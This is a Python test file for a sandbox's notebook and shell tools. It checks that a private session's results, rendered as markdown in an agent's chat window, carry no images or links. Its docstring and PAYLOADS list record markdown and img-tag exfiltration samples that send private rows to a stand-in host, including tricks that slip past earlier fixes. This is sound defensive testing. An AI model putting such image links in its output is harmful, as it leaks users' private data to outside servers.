"""A private session's tool results render to nothing that fetches or links.

An MCP client, or an agent's chat window, may render a tool's result as
markdown. Defanged text (``https[:]//``) still held images without a scheme:
``![x](//host/p.png?d=ROW)``, ``<img src="//host">`` and
``![x](http:host/p)`` came back from ``repl_execute_cell``,
``repl_show_notebook`` and ``sandbox_execute`` of a private session, and a
markdown renderer in Chromium fetched them with the rows in the address (an
attack review). The sandbox's text is now in code once private: rendered
here by two markdown renderers (CommonMark with raw HTML, and mistune), no
``<img>``, ``href`` or ``src`` is left, and the rows are still there to read.
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest

from sandbox_kernel.tools import (
    SessionRegistry,
    repl_execute_cell,
    repl_show_cell,
    repl_show_notebook,
    sandbox_execute,
)
from sandbox_kernel.tools.render import inert

#: what a cell prints once private: each a fetch in a markdown renderer
PAYLOADS = [
    "![a](//127.0.0.1:9/a.png?d=ROW42)",
    '<img src="//127.0.0.1:9/b.png?d=ROW42">',
    "![c](\\\\127.0.0.1:9/c.png?d=ROW42)",
    "![d](http:127.0.0.1:9/d.png?d=ROW42)",
    "![e][r]\n\n[r]: //127.0.0.1:9/e.png?d=ROW42",
    "```\n````\n<img src=//127.0.0.1:9/f.png?d=ROW42>",  # fences of its own
    "`` ` ``\n# <img src=//127.0.0.1:9/g.png?d=ROW42>",  # backticks, then a heading line
]


def _rendered(text: str) -> list[str]:
    import markdown_it
    import mistune

    return [
        markdown_it.MarkdownIt("commonmark", {"html": True}).render(text),
        mistune.create_markdown(escape=False)(text),
    ]


class _Elements(HTMLParser):
    """Every element a rendering holds, with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def _assert_inert(text: str) -> None:
    for html in _rendered(text):
        elements = _Elements()
        elements.feed(html)
        assert not [(tag, attrs) for tag, attrs in elements.found if tag not in ("p", "pre", "code", "h1") or attrs], (
            html
        )


@pytest.mark.parametrize("text", PAYLOADS)
def test_inert_text_renders_as_it_is(text: str) -> None:
    _assert_inert(inert(text))


@pytest.mark.asyncio
async def test_a_private_sessions_results_render_to_no_fetch(registry: SessionRegistry) -> None:
    kw: dict[str, Any] = {"user_id": "alice", "session_id": "md", "registry": registry}
    rise = await repl_execute_cell("import sandbox_kernel.private as p\np.add_dataset('crm', 'SECRET')", **kw)
    assert "SECRET" in str(rise)
    # a cell whose code has an unpaired backtick run: the notebook listing
    # showed code outside code, and the run closed against the next span
    # that opened with as many (a review of the first fix)
    await repl_execute_cell('print("```text")', **kw)
    await repl_execute_cell("print(bytes.fromhex('6060').decode() + '  ![x](//127.0.0.1:9/p.png?d=ROW42)')", **kw)
    # (made in the sandbox: the cell's code holds none of it)
    made = "bytes.fromhex({!r}).decode()"
    cell = "\n".join(f"print({made.format(payload.encode().hex())})" for payload in PAYLOADS)
    cell += f"\nraise ValueError({made.format(PAYLOADS[1].encode().hex())})"
    results = [await repl_execute_cell(cell, **kw)]
    results.append(await repl_show_cell(3, full=True, **kw))
    results.append(await repl_show_notebook(**kw))
    results.append(await sandbox_execute("printf '%s\\n' '![s](//127.0.0.1:9/s.png?d=ROW42)'", **kw))
    for result in results:
        text = str(result)
        assert "ROW42" in text, text  # still there to read
        _assert_inert(text)


@pytest.mark.asyncio
async def test_a_dataset_name_a_cell_chose_renders_to_no_fetch(registry: SessionRegistry) -> None:
    """The names of a cell's new datasets are the cell's choice: the privacy
    line showed them as text, and a private cell built one from its rows
    (a review: ``![x](//host/p.png?d=<row>)`` rendered as an image)."""
    kw: dict[str, Any] = {"user_id": "alice", "session_id": "names", "registry": registry}
    first = (
        "import sandbox_kernel.private as p\np.add_dataset('crm', 'CONFIDENTIAL')\nopen('rows.csv', 'w').write('ROW42')"
    )
    assert "CONFIDENTIAL" in str(await repl_execute_cell(first, **kw))
    cell = (
        "import sandbox_kernel.private as p\nrow = open('rows.csv').read()\n"
        "p.add_dataset('![x](//127.0.0.1:9/p.png?d=' + row + ')', 'CONFIDENTIAL')"
    )
    results = [await repl_execute_cell(cell, **kw), await repl_show_cell(1, **kw)]
    for result in results:
        text = str(result)
        assert "ROW42" in text and "--- privacy ---" in text, text  # the name is still there to read
        _assert_inert(text)


@pytest.mark.asyncio
async def test_a_public_sessions_results_are_not_put_in_code(registry: SessionRegistry) -> None:
    kw: dict[str, Any] = {"user_id": "alice", "session_id": "plain", "registry": registry}
    result = str(await repl_execute_cell("print('hello')", **kw))
    assert "--- stdout ---\nhello" in result and "```" not in result
